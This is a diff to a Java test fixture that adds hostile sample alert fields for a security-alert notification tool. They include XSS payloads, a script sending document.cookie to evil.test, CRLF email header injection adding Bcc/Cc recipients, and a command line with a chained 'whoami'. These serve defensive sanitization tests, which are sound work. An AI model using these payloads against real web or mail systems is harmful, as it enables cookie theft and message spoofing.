@@ -22,6 +22,13 @@ public final class Samples {
     public static final String MACHINE_NAME = "ws-042.contoso.com";
     public static final String HOSTILE_TITLE = "Evil <script>alert(\"x\")</script> & co\r\nBcc: attacker@evil.test";
 
+    public static final String HOSTILE_MACHINE = "<b onmouseover=alert(1)>ws-666</b>\r\nCc: cc@evil.test";
+    public static final String HOSTILE_DESCRIPTION =
+            "Look <script>fetch('https://evil.test/'+document.cookie)</script><img src=x onerror=alert(1)>";
+    public static final String HOSTILE_COMMAND_LINE =
+            "cmd.exe /c \"<a href=\\\"javascript:alert(1)\\\">click</a><iframe src=//evil.test></iframe>\" & whoami";
+    public static final String HOSTILE_BCC_TITLE = "Ransomware\r\nBcc: attacker@evil.test\r\n\r\n<h1>gotcha</h1>";
+
     private Samples() {
     }
 
@@ -46,6 +53,16 @@ public final class Samples {
     /** What a rule with {@code actions: [notify]} decides. */
     public static DecisionMade notifyOnly(AlertSummary alert, List<String> recipients) {
         return DecisionMade.forAlert(alert, "notify-medium", "test-1", Map.of("alert.severity", "Medium"),
+                List.of(RuleAction.NOTIFY), null, DecisionOutcome.ACTED, recipients, null);
+    }
+
+    /** A notify-only decision about a hostile alert, whose rule read a hostile description and command line. */
+    public static DecisionMade hostileNotifyOnly(String alertId, List<String> recipients) {
+        AlertSummary alert = new AlertSummary(alertId, HOSTILE_BCC_TITLE, Severity.Medium, "Execution",
+                "WindowsDefenderAtp", MACHINE_ID, HOSTILE_MACHINE, "Workstations", Instant.parse("2026-11-27T10:00:00Z"),
+                Instant.parse("2026-11-27T09:59:00Z"), Instant.parse("2026-11-27T09:59:30Z"));
+        return DecisionMade.forAlert(alert, "notify-medium", "test-1",
+                Map.of("alert.description", HOSTILE_DESCRIPTION, "evidence.processCommandLine", HOSTILE_COMMAND_LINE),
                 List.of(RuleAction.NOTIFY), null, DecisionOutcome.ACTED, recipients, null);
     }
 
